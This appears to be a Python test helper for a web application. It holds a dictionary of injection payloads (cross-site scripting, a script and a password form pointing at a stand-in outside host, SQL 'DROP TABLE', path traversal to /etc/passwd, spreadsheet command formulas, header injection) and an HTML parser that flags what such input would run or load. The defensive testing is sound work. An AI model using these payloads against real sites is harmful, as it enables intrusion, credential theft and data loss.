"""What somebody might type to make a page do what it should not, and how to see that it does."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script that ends an attribute": "\"'><script src=//e.example/x.js></script>",
    "script that ends a text field": "</textarea></title></style><script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler in svg": "<svg/onload=alert(1)><a xlink:href=javascript:alert(1)>x",
    "handler in an attribute": '" autofocus onfocus="alert(1)',
    "handler without quotes": "x onmouseover=alert(1) y",
    "link": "[钱](javascript:alert(1)) <javascript:alert(1)>",
    "link in disguise": "[x](&#106;avascript&colon;alert(1)) [y](\tJaVaScript:alert(1))",
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml,x)",
    "link that is defined elsewhere": "[x]\n\n[x]: vbscript:msgbox(1)",
    "link with a title": '[x](/law/ "\\" onmouseover=\\"alert(1)")',
    "link to another site without its scheme": "[x](//e.example) ![x](//e.example/p.png)",
    "comment": "<!-- --><!--><script>alert(1)</script>--> <![CDATA[<script>1</script>]]>",
    "frame": "<iframe src=//e.example></iframe><object data=x></object><embed src=x>",
    "form": "</form><form action=//e.example><input name=password>",
    "base and refresh": '<base href=//e.example><meta http-equiv=refresh content="0;url=//e">',
    "style": "<style>*{display:none}</style><p style=position:fixed>x</p>",
    "template": "{{ 7*7 }}{% load static %}{% include 'base.html' %}{{ settings.SECRET_KEY }}",
    "placeholder": "{{ rule:<script>alert(1)</script> }} {{rule:__class__}}",
    "format": "{0.__class__} %(x)s %s ${7*7} #{7*7}",
    "reversed": "\u202eexe.tpircs\u202c \u2066x\u2069",
    "invisible": "\u200b<scr\u200bipt>alert(1)</scr\u200bipt>\ufeff",
    "full width": "＜script＞alert(1)＜/script＞ ﹤b﹥",
    "sql": "'; DROP TABLE advice_strategy; -- ' OR '1'='1",
    "path": "../../../../etc/passwd ..\\..\\x",
    "formula": "=cmd|'/c calc'!A1 +1 -1 @SUM(1)",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
}

# Everything that a page of ours may bring along comes from here.
OUR_FILES = "/static/"
OUR_FRAMES = "frame-"
SCHEMES = {"", "http", "https", "tel"}
ADDRESSES = {"href", "xlink:href", "src", "action", "formaction", "data", "poster", "background"}
NEVER = {"object", "embed", "applet", "math", "style", "noscript", "audio", "video", "portal"}


class _Watch(HTMLParser):
    """Notes what a browser would run, load or follow that is not ours."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        attrs = {name: value or "" for name, value in attrs}
        if tag in NEVER or (tag == "script" and not self._is_ours(attrs.get("src", ""))):
            self.found.append((tag, attrs))
        if tag == "iframe" and not attrs.get("name", "").startswith(OUR_FRAMES):
            self.found.append((tag, attrs))
        if tag == "base" and "href" in attrs:
            self.found.append((tag, attrs))
        if tag == "meta" and "http-equiv" in attrs:
            self.found.append((tag, attrs))
        if tag in {"img", "link"} and "e.example" in str(attrs):
            self.found.append((tag, attrs))
        self.found += [(tag, name) for name in attrs if name.startswith("on") or name == "style"]
        self.found += [
            (tag, name, value)
            for name, value in attrs.items()
            if name in ADDRESSES and not self._may_be_followed(tag, value)
        ]

    @staticmethod
    def _is_ours(address):
        return address.startswith((OUR_FILES, "/admin/jsi18n/"))

    @staticmethod
    def _may_be_followed(tag, address):
        address = "".join(address.split())
        if tag == "form" and urlsplit(address).netloc:
            return False
        return urlsplit(address).scheme.lower() in SCHEMES


def harm_in(html):
    """What of a page would run, load or lead where nothing of ours does."""
    watch = _Watch()
    watch.feed(html)
    watch.close()
    return watch.found
